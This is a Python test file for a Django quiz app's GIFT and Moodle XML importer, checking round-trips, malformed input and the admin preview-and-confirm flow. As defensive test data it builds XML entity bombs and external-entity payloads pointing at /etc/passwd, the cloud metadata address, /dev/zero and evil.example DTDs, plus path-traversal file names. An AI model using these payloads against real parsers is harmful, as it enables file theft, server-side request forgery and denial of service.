"""GIFT and Moodle XML question files, hostile and broken: any bytes, truncated files, XML entity bombs and external
entities. Reading gives questions or a reason, never another error, and never expands an entity; what the bank
exports reads back the same; and in the admin a refused file imports nothing, a preview writes nothing, and
confirming imports exactly the questions the preview listed."""

import re
import time
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from hypothesis import event, given, note
from hypothesis import strategies as st

from quizzes.interop import ImportFileError, ParsedChoice, ParsedQuestion, gift, moodle_xml, parse, serialize
from quizzes.models import Category, Choice, Question, QuizQuestion
from tests.factories import QuizFactory
from tests.properties import examples, hostile_text, rolled_back

URL = "/admin/quizzes/import-questions/"
FORMATS = {"gift": gift, "moodle-xml": moodle_xml}

# Characters that mean something to one format or the other, or that XML cannot hold, among ordinary ones.
SYNTAX = ":~=#{}\\/%[]$-><&\"';!? \n\x01\x0b\x1f\ufffe"
syntax_text = st.text(alphabet=st.sampled_from(list("abcXYZ019äß中") + list(SYNTAX)), max_size=40)
# How a text may start that a reader could take for syntax: a comment, a format, a name, a category, a weight.
OPENINGS = ["", "//", "[html]", "[moodle]", "::", "::a::", "$CATEGORY: ", "%50%", "=", "~", "#", "T", "{", "<b>"]
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


# Questions as the bank exports them


def plain(text: str) -> str:
    """A text as a question file keeps it: no blank ends (readers strip them)."""
    return text.strip()


texts = st.builds(lambda opening, rest: plain(opening + rest), st.sampled_from(OPENINGS), syntax_text)
# A text that must not be blank (a question's, an answer's).
filled = texts.map(lambda text: text or "x")
names = st.builds(
    lambda opening, rest: plain(opening + rest.replace("\n", " ")), st.sampled_from(OPENINGS), syntax_text
)
fractions = st.sampled_from([Decimal(0), Decimal("0.5"), Decimal("0.33333"), Decimal("-1"), Decimal("0.25")])
# A category's path is written with "/" between names (and "//" for a "/" in one): a name cannot start or end with
# one, as Moodle could not tell it from the separator.
category_names = (
    st.text(alphabet=st.sampled_from(list("abcXYZ 019äß中/-")), min_size=1, max_size=15)
    .map(plain)
    .filter(lambda name: name and name[0] != "/" and name[-1] != "/")
)


@st.composite
def bank_question(draw) -> ParsedQuestion:
    kind = draw(st.sampled_from(["single", "multiple", "true_false", "essay"]))
    question = ParsedQuestion(
        line=0,
        qtype={"true_false": "truefalse", "essay": "essay"}.get(kind, "multichoice"),
        name=draw(names),
        text=draw(filled),
        kind=kind,
        explanation=draw(texts),
        category=draw(st.none() | st.lists(category_names, min_size=1, max_size=3).map(tuple)),
    )
    choice_texts = st.lists(filled, min_size=2, max_size=4, unique=True)
    if kind == "single":
        right, *others = draw(choice_texts)
        question.choices = [ParsedChoice(right, Decimal(1), draw(texts))] + [
            ParsedChoice(text, draw(fractions.filter(lambda f: f < 1)), draw(texts)) for text in others
        ]
    elif kind == "multiple":
        question.choices = [ParsedChoice(text, draw(fractions), draw(texts)) for text in draw(choice_texts)]
        question.choices[0].fraction = Decimal("0.5")
    elif kind == "true_false":
        is_true = draw(st.booleans())
        question.choices = [
            ParsedChoice("True", Decimal(is_true), draw(texts)),
            ParsedChoice("False", Decimal(not is_true), draw(texts)),
        ]
    return question


def key(question: ParsedQuestion, kept=lambda text: text):
    """What an export must carry over; `kept` is what the format keeps of a text."""
    choices = [(kept(choice.text), choice.fraction, kept(choice.feedback)) for choice in question.choices]
    return (kept(question.name), kept(question.text), question.kind, kept(question.explanation), choices,
            question.category)


@given(questions=st.lists(bank_question(), min_size=1, max_size=4), file_format=st.sampled_from(list(FORMATS)))
@examples(200)
def test_what_the_bank_writes_reads_back_the_same(questions, file_format):
    written = serialize(questions, file_format)
    note(written)

    read = parse(written.encode(), file_format).questions

    # XML cannot hold control characters: they are left out of the file, and the text is otherwise the same.
    kept = (lambda text: plain(NOT_XML.sub("", text))) if file_format == "moodle-xml" else (lambda text: text)
    assert [key(question) for question in read] == [key(question, kept) for question in questions]


# Reading anything


@st.composite
def truncated(draw, file_format: str) -> bytes:
    """A file the bank wrote, cut off anywhere (a download that stopped)."""
    written = serialize(draw(st.lists(bank_question(), min_size=1, max_size=3)), file_format).encode()
    return written[: draw(st.integers(0, len(written)))]


def gift_like(draw_text):
    return st.builds(
        lambda *parts: "".join(parts),
        st.sampled_from(["", "::", "::Q::", "$CATEGORY: ", "// c\n", "[html]"]),
        draw_text,
        st.sampled_from(["{", "{=", "{~", "{#", "{T", "{FALSE#", "{}", "{####"]),
        draw_text,
        st.sampled_from(["}", "", "}}", "{", "\n\n"]),
        draw_text,
    ).map(str.encode)


xml_like = st.builds(
    lambda *parts: "".join(parts).encode(),
    st.sampled_from(["", '<?xml version="1.0"?>', "\ufeff", "<!-- c -->"]),
    st.sampled_from(["<quiz>", "<quiz", "<QUIZ>", "<html>", ""]),
    st.sampled_from(['<question type="', "<question type='multichoice'>", "<question>", "<question type='category'>"]),
    syntax_text,
    st.sampled_from(["<text>", "<answer fraction='", "<name><text>", "<file>", "&amp;", "&#0;", "&#x1;"]),
    syntax_text,
    st.sampled_from(["</text>", "'>", "</question>", "</quiz>", ""]),
)

ANY_FILE = st.one_of(
    st.binary(max_size=400),
    hostile_text.map(str.encode),
    gift_like(syntax_text),
    xml_like,
    truncated("gift"),
    truncated("moodle-xml"),
)


@given(data=ANY_FILE, file_format=st.sampled_from(list(FORMATS)))
@examples(400)
def test_reading_any_file_gives_questions_or_a_reason_never_another_error(data, file_format):
    try:
        parsed = parse(data, file_format)
    except ImportFileError as error:
        assert str(error).strip()
        event("refused")
    else:
        assert parsed.questions
        for question in parsed.questions:
            assert question.kind or question.problem, "a question that cannot be imported says why"
        event("read")


# Entities: a document type is refused before anything is expanded or fetched


def entity_bomb(depth: int, width: int) -> tuple[str, str]:
    """The "billion laughs" (a document type, and the reference that would expand it): each entity is `width` times
    the one before, `depth` levels deep."""
    lines = ['<!ENTITY lol0 "lol">']
    for level in range(1, depth + 1):
        lines.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * width}">')
    return f"<!DOCTYPE quiz [{''.join(lines)}]>", f"&lol{depth};"


@st.composite
def with_doctype(draw) -> bytes:
    kind = draw(st.sampled_from(["bomb", "system", "public", "parameter", "external-dtd", "quadratic"]))
    if kind == "bomb":
        doctype, reference = entity_bomb(draw(st.integers(1, 12)), draw(st.integers(2, 10)))
    elif kind == "system":
        target = draw(st.sampled_from(["file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "/dev/zero"]))
        doctype, reference = f'<!DOCTYPE quiz [<!ENTITY x SYSTEM "{target}">]>', "&x;"
    elif kind == "public":
        doctype, reference = '<!DOCTYPE quiz [<!ENTITY x PUBLIC "-//X//EN" "http://evil.example/x">]>', "&x;"
    elif kind == "parameter":
        doctype = '<!DOCTYPE quiz [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
        reference = "&exfil;"
    elif kind == "external-dtd":
        doctype, reference = '<!DOCTYPE quiz SYSTEM "http://evil.example/quiz.dtd">', "&x;"
    else:
        doctype, reference = f'<!DOCTYPE quiz [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 1000
    before = draw(st.sampled_from(["", '<?xml version="1.0" encoding="UTF-8"?>\n', "\ufeff", "<!-- hi -->\n"]))
    body = f"<quiz><question type='essay'><name><text>{reference}</text></name><questiontext><text>Q</text>"
    body += "</questiontext></question></quiz>"
    return (before + doctype + "\n" + body).encode()


@given(data=with_doctype())
@examples(60)
def test_a_document_type_is_refused_at_once_so_no_entity_is_expanded_or_fetched(data):
    started = time.monotonic()

    with pytest.raises(ImportFileError, match="declares a document type"):
        moodle_xml.parse(data)

    assert time.monotonic() - started < 1


# The admin page


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


@pytest.fixture
def quiz(db):
    return QuizFactory()


def bank() -> dict:
    return {
        "questions": sorted(Question.objects.values_list("pk", "text")),
        "choices": Choice.objects.count(),
        "categories": sorted(Category.objects.values_list("pk", "name", "parent_id")),
        "in_quizzes": QuizQuestion.objects.count(),
    }


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


@st.composite
def upload_case(draw) -> tuple[bytes, str, str]:
    """(file, file name, format chosen on the form): often a whole file the bank wrote, named for its format."""
    file_format = draw(st.sampled_from(list(FORMATS)))
    whole = st.lists(bank_question(), min_size=1, max_size=3).map(lambda qs: serialize(qs, file_format).encode())
    data = draw(st.one_of(whole, whole, ANY_FILE, with_doctype(), st.just(b"Fine {=yes ~no}\n\nBad\x00 {=a ~b}")))
    name = draw(st.sampled_from(["q.xml" if file_format == "moodle-xml" else "q.txt", "q.gift", "../../q.xml", "q"]))
    chosen = draw(st.sampled_from(["", file_format, file_format, "gift", "moodle-xml", "csv", "../gift"]))
    return data, name, chosen


@pytest.mark.django_db
@given(case=upload_case(), category=st.one_of(st.just(""), hostile_text, st.just("A/" * 300)))
@examples(60)
def test_an_upload_is_refused_with_a_reason_or_previewed_and_confirming_imports_what_the_preview_listed(
    editor_client, quiz, case, category
):
    data, name, file_format = case
    with rolled_back():
        before = bank()

        response = editor_client.post(
            URL, {"file": upload(name, data), "file_format": file_format, "category": category, "quiz": quiz.pk}
        )

        assert response.status_code == 200
        assert bank() == before, "a preview writes nothing"
        if "token" not in response.context:
            event("refused")
            form = response.context["form"]
            assert form.errors
            page = response.content.decode()
            assert all(escape(error) in page for errors in form.errors.values() for error in errors)
            return
        check = response.context["check"]
        event(f"{len(check.importable)} to import")

        confirmed = editor_client.post(URL, {"token": response.context["token"]})

        assert confirmed.status_code == 302
        after = bank()
        new = sorted(set(after["questions"]) - set(before["questions"]))
        assert [text for _pk, text in new] == [question.text for question, _path in check.importable]
        assert after["choices"] - before["choices"] == sum(len(question.choices) for question, _ in check.importable)
        assert after["in_quizzes"] - before["in_quizzes"] == len(check.importable)
